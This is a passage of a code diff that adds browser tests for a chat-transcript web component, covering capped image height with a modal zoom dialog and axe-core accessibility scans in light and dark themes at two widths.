+  assert.deepEqual(imports, { same: true, registered: true, copyExports: true, isInstance: true });
+  await clean(page, watch);
+  await page.close();
+});
+
+test("image records have a capped height and open a zoom dialog on click", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async () => {
+    const canvas = document.createElement("canvas");
+    canvas.width = 200;
+    canvas.height = 1600;
+    const g = canvas.getContext("2d");
+    g.fillStyle = "#36c";
+    g.fillRect(0, 0, 200, 1600);
+    const data = canvas.toDataURL("image/png").split(",")[1];
+    t.records = [{ conversation_id: null, message_type: "assistant", content_type: "image", content: { data, mime_type: "image/png", alt_text: "A tall blue bar", caption: "Tall" }, sequence: 0, status: "completed", tool_call_id: null, metadata: {} }];
+    await window.__frames(2);
+    const img = window.__root().querySelector("figure.image img");
+    await img.decode();
+    await window.__frames(2);
+    const style = getComputedStyle(img);
+    return { natural: img.naturalHeight, height: img.getBoundingClientRect().height, max: parseFloat(style.maxHeight), fit: style.objectFit, src: img.src, alt: img.alt };
+  });
+  assert.equal(out.natural, 1600);
+  assert.ok(out.height <= out.max + 0.5 && out.height < out.natural, `the height is capped: ${out.height} of ${out.natural} (max ${out.max})`);
+  assert.equal(out.fit, "contain", "scaled, not cropped");
+  assert.equal(out.alt, "A tall blue bar");
+  await page.click("chat-transcript button.zoom");
+  await page.waitForFunction(() => window.__root().querySelector("dialog.zoom-view").open);
+  const zoomed = await page.evaluate(() => {
+    const dialog = window.__root().querySelector("dialog.zoom-view");
+    const img = dialog.querySelector("img");
+    return { src: img.src, alt: img.alt, height: img.getBoundingClientRect().height, modal: dialog.matches(":modal") };
+  });
+  assert.equal(zoomed.src, out.src);
+  assert.equal(zoomed.alt, out.alt);
+  assert.equal(zoomed.modal, true);
+  assert.ok(zoomed.height > out.height, "bigger when zoomed");
+  await page.keyboard.press("Escape");
+  await page.waitForFunction(() => !window.__root().querySelector("dialog.zoom-view").open);
+  await page.click("chat-transcript button.zoom");
+  await page.waitForFunction(() => window.__root().querySelector("dialog.zoom-view").open);
+  await page.click("chat-transcript dialog.zoom-view .close");
+  await page.waitForFunction(() => !window.__root().querySelector("dialog.zoom-view").open);
+  await clean(page, watch);
+  await page.close();
+});
+
+/** axe-core over the element (it scans open shadow roots), WCAG 2.2's target size rule included. */
+const axe = (page) => new AxeBuilder({ page }).include("chat-transcript").options({ rules: { "target-size": { enabled: true } } }).analyze();
+
+test("axe-core: no serious or critical violation with the sample, light and dark, 1280 and 390 px wide", async () => {
+  const failures = [];
+  let runs = 0;
+  for (const width of [1280, 390]) {
+    const { page, watch } = await open({ width, height: 1600 });
+    await page.evaluate(async (sample) => { await t.load(sample); }, sample);
+    const n = await page.evaluate(() => t.records.length);
+    // Every row, with its tool calls open, in the DOM at some point; axe checks what is in the DOM.
+    const seen = new Set();
+    for (let i = 0; i < n;) {
+      const rows = await page.evaluate(async (i) => {
+        t.scrollToRecord(i);
+        await window.__frames(3);
+        for (const head of window.__root().querySelectorAll('.tool-head[aria-expanded="false"]')) head.click();
+        await window.__frames(3);
+        return [...window.__root().querySelectorAll(".row")].map((r) => Number(r.dataset.index));
+      }, i);
+      for (const theme of ["light", "dark"]) {
+        await page.evaluate((theme) => t.setAttribute("theme", theme), theme);
+        const result = await axe(page);
+        runs++;
+        assert.ok(result.passes.some((r) => r.id === "color-contrast"), "contrast is checked");
+        for (const v of result.violations) {
+          if (v.impact === "serious" || v.impact === "critical") {
+            failures.push(`${width}px ${theme} rows ${rows[0]}-${rows.at(-1)}: ${v.id} (${v.impact}): ${v.nodes.map((node) => `${JSON.stringify(node.target)} ${node.failureSummary}`).join(" | ")}`);
+          }
+        }
+      }
+      for (const r of rows) seen.add(r);
+      while (i < n && seen.has(i)) i++;
+    }
+    assert.equal(seen.size, n, "every row checked");
+    if (width === 390) {
+      // The check reaches into the shadow root: a button with no name there is reported.
+      await page.evaluate(() => window.__root().querySelector(".row .record").append(document.createElement("button")));
+      const result = await axe(page);
+      assert.ok(result.violations.some((v) => v.id === "button-name" && v.nodes.some((node) => JSON.stringify(node.target).includes("#t"))), "axe sees inside the element");
+    }
+    await clean(page, watch);
+    await page.close();
+  }
+  assert.ok(runs >= 4);
+  assert.deepEqual([...new Set(failures)], []);
+});
